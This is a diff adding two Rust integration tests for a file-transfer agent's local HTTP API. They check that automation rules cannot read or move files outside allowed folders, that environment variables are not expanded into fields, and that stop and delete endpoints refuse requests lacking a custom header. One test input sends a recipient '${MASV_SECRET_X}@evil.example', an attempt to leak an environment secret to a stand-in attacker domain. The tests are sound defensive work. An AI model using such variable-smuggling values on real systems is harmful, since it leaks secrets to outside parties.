@@ -170,3 +170,58 @@ fn agent_with_socket(folder: &Path, flags: &[&str]) -> Option<Agent> {
     }
     agent_of_its_own_user(flags)
 }
+
+/// Of an ordered rule the folder to watch was checked, and nothing else; and `${…}` in a recipient was replaced by what the
+/// agent's environment held.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ordered_rule_reads_and_writes_below_the_roots_and_knows_no_variable() {
+    let root = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("secret"), "hush").unwrap();
+    let mut agent = Agent::prepare(RULES, &["--allow-root", root.path().to_str().unwrap()]);
+    agent.environment.push(("MASV_SECRET_X".to_owned(), "env-secret-42".to_owned()));
+    agent.go_on();
+    let client = reqwest::Client::builder().no_proxy().build().unwrap();
+    let order = async |name: &str, more: Value| {
+        let mut order = serde_json::json!({ "name": name, "watch_folder": root.path(), "settle": "1h" });
+        order.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        let answer =
+            client.post(format!("{}/api/v1/automations/upload", agent.url())).json(&order).send().await.unwrap();
+        (answer.status().as_u16(), answer.json::<Value>().await.unwrap())
+    };
+    let out = outside.path().display().to_string();
+    for (name, more, field) in [
+        ("moved", serde_json::json!({ "after": { "complete": { "move": out } } }), "after"),
+        ("failed", serde_json::json!({ "after": { "error": { "move": out } } }), "after"),
+        ("locked", serde_json::json!({ "password_file": format!("{out}/secret") }), "password_file"),
+    ] {
+        let (status, answer) = order(name, more).await;
+        assert_eq!(status, 400, "{name}: {answer}");
+        assert!(answer["fields"][field].is_string(), "{name}: {answer}");
+    }
+    let mail =
+        serde_json::json!({ "recipients": ["${MASV_SECRET_X}@evil.example"], "package_name": "${MASV_SECRET_X}" });
+    let (status, answer) = order("mailed", mail).await;
+    assert!(status == 201 || status == 400, "{answer}");
+    let tried = agent.json(&["rule", "dry-run"]).to_string();
+    let written = std::fs::read_to_string(agent.path("rules.yaml")).unwrap();
+    assert!(!tried.contains("env-secret-42") && !written.contains("env-secret-42"), "{tried}");
+    assert!(!written.contains(&out), "{written}");
+}
+
+/// A webhook that was pointed at the agent stopped it.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_order_without_a_word_of_ours_is_refused() {
+    let mut agent = Agent::start(RULES, &[]);
+    let client = reqwest::Client::builder().no_proxy().build().unwrap();
+    let stop = format!("{}/api/v1/server/stop", agent.url());
+    let as_webhook = serde_json::json!({ "event": "package.finalized", "data": {} });
+    assert_eq!(client.post(&stop).send().await.unwrap().status(), 400, "no body");
+    assert_eq!(client.post(&stop).json(&as_webhook).send().await.unwrap().status(), 400, "a body of somebody else's");
+    let all = format!("{}/api/v1/uploads?states=all", agent.url());
+    assert_eq!(client.delete(&all).send().await.unwrap().status(), 400);
+    assert!(agent.is_running());
+    assert_eq!(client.delete(&all).header("X-Masv", "1").send().await.unwrap().status(), 200);
+    assert_eq!(client.post(&stop).json(&serde_json::json!({})).send().await.unwrap().status(), 202);
+    assert_eq!(agent.ended(), Some(0));
+}
